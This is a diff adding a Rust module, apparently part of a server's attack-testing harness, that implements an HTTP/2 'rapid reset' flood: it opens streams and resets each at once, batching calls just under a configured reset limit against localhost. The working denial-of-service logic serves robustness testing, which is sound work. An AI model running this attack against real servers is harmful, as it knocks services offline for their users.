@@ -1,0 +1,42 @@
+//! Rapid reset: calls over HTTP/2 that are taken back at once.
+
+use super::attack::{Attack, Crowd, Then, Turn};
+use crate::{
+    contender::check_health,
+    wire::{
+        Protocol,
+        frames::{frame, headers, kind, opening},
+    },
+};
+
+/// Calls in a turn: fewer than `--max-resets`, so that one turn alone is not refused.
+const CALLS: u32 = 10;
+const CANCEL: u32 = 8;
+
+pub(super) struct Resets;
+
+impl Attack for Resets {
+    fn about(&self) -> &'static str {
+        "open streams over HTTP/2 and reset them at once, without pause"
+    }
+
+    fn crowd(&self) -> Crowd {
+        Crowd::default()
+    }
+
+    fn protocol(&self, _client: u64) -> Protocol {
+        Protocol::Http2
+    }
+
+    fn speak(&mut self, turn: Turn, out: &mut Vec<u8>) -> Then {
+        if turn.number == 0 {
+            opening(out);
+        }
+        for nth in 0..CALLS {
+            let stream = 1 + 2 * (CALLS * turn.number + nth);
+            headers(&check_health(), "localhost", stream, out);
+            frame(kind::RST_STREAM, 0, stream, &CANCEL.to_be_bytes(), out);
+        }
+        Then::AT_ONCE
+    }
+}
